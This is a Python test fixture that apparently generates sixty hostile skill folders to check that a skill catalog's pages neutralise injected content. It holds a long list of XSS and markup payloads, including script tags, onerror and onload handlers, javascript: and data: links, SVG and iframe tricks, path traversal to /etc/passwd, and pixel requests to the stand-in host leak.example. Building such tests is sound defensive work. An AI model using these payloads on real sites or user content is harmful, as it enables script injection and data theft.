"""Sixty hostile skills: each tries to inject script, style, frames or requests in another way or place.

A script that runs sets the global `hit` or the title of the page, or requests something of `leak.example`.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any, Final

from catalog.forest import write_files

_RUN: Final = "window.hit=1;document.title='hit'"
_LEAK: Final = "https://leak.example/x"
MARKUP: Final = (
    f"<script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f'"><script>{_RUN}</script>',
    f'\'><img src=x onerror="{_RUN}">',
    f'<img src="{_LEAK}" onload="{_RUN}">',
    f'<svg onload="{_RUN}"><circle r="9"/></svg>',
    f'<iframe srcdoc="<script>parent.hit=1</script>" src="{_LEAK}"></iframe>',
    f'<object data="{_LEAK}"></object><embed src="{_LEAK}">',
    "<style>*{display:none!important}</style>",
    f'<link rel="stylesheet" href="{_LEAK}">',
    f'<base href="{_LEAK}/">',
    f'<meta http-equiv="refresh" content="0;url={_LEAK}">',
    f'<form action="{_LEAK}"><input name=q autofocus onfocus="{_RUN}"></form>',
    f'<video src="{_LEAK}" onerror="{_RUN}" autoplay></video>',
    f'<details open ontoggle="{_RUN}">x</details>',
    f'<math href="javascript:{_RUN}"><mtext>x</mtext></math>',
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>"></noscript>',
    f"</textarea></pre></code></option></select><script>{_RUN}</script>",
    f"{{{{ 7*7 }}}}{{% for x in y %}}<script>{_RUN}</script>",
    f"<!--><script>{_RUN}</script>-->",
)
"""HTML injections for names, titles, descriptions, tags, arguments and bodies."""
MARKDOWN: Final = (
    f"[run](javascript:{_RUN})",
    f"[run](JaVaScRiPt&colon;{_RUN})",
    f"[run](\tjavascript:{_RUN})",
    f"[run](java\\\nscript:{_RUN})",
    f"[run](data:text/html,<script>{_RUN}</script>)",
    f"[run](vbscript:{_RUN})",
    f"<javascript:{_RUN}>",
    f"[x]: javascript:{_RUN}\n\n[x]",
    f"![pixel]({_LEAK}?secret)",
    f'![a]({_LEAK} "t" onerror="{_RUN}")',
    "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "![p](//leak.example/x.png) [q](//leak.example/) [r](\\\\leak.example\\x)",
    f'```"><script>{_RUN}</script>\nx\n```',
    f"| a<script>{_RUN}</script> | b |\n|---|:-:|\n| <img src=x onerror={_RUN}> | ![x]({_LEAK}) |",
    f'[x](https://e.example/"onmouseover="{_RUN})',
    "[up](../../../../etc/passwd) [ui](/ui/sign-out) [dots](%2e%2e/%2e%2e/x) [q](?fill=1) [f](#main)",
    "[ok](references/a.md) ![svg](evil.svg) ![html](evil.html) ![png](fake.png)",
    f'1. <b onclick="{_RUN}">x</b>\n2. `<script>{_RUN}</script>`\n\n    <script>{_RUN}</script>',
    "a\u200bb\u202ec\u2066d\ufeffe \U000e0041\U000e0042 \u00ad",
    f'<https://leak.example/"><script>{_RUN}</script>>',
)
_SVG: Final = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_RUN}"><script>{_RUN}</script>'
    f'<foreignObject><iframe src="{_LEAK}"/></foreignObject><image href="{_LEAK}"/></svg>'
)
_HTML: Final = f"<!doctype html><title>x</title><script>{_RUN}</script><img src={_LEAK}>"


def write(folder: Path) -> list[str]:
    """Write the skills into a folder. Return their paths."""
    folders: list[Path] = []
    for number, text in enumerate((*MARKUP, *MARKDOWN)):
        folders.append(_write_skill(folder / f"text-{number:02}", "Does a thing", text, text))
    for number, text in enumerate(MARKUP[:12]):
        argument = {"name": text.replace("{", ""), "description": text, "default": text}
        extra: dict[str, Any] = dict.fromkeys(("title", "version", "license", text), text)
        if number > 8:  # such a skill is unusable, and only the page shows it
            extra["name"] = text
        extra |= {"tags": [text], "arguments": [argument]}
        folders.append(_write_skill(folder / f"field-{number:02}", text, "Fine", text, **extra))
    for number, name in enumerate((
        "<img src=x onerror=window.hit=1>.md", '"onload="window.hit=1".txt', "a' onclick='window.hit=1.png",
        "x&#34;>.svg", "%2e%2e%2fui.md", "?file=SKILL.md", "#x.md", "javascript:window.hit=1",
    )):  # fmt: skip
        path = folder / f"<b>file-{number}<img src=x onerror=window.hit=1>"
        folders.append(_write_skill(path, "Does a thing", "Fine", name))
        (path / name).write_text(f"<script>{_RUN}</script>", encoding="utf-8")
    return [path.name for path in folders]


def _write_skill(folder: Path, description: str, body: str, reference: str, **extra: object) -> Path:
    fields = {"name": folder.name, "description": description, **extra}
    # JSON is valid YAML, and its strings are always quoted.
    lines = "\n".join(f"{json.dumps(key)}: {json.dumps(value)}" for key, value in fields.items())
    files = {"SKILL.md": f"---\n{lines}\n---\n\n# {body}\n\n{body}\n"}
    files |= {"references/a.md": f"# {reference}\n\n{reference}\n"}
    return write_files(folder, files | {"evil.svg": _SVG, "evil.html": _HTML, "fake.png": _HTML})
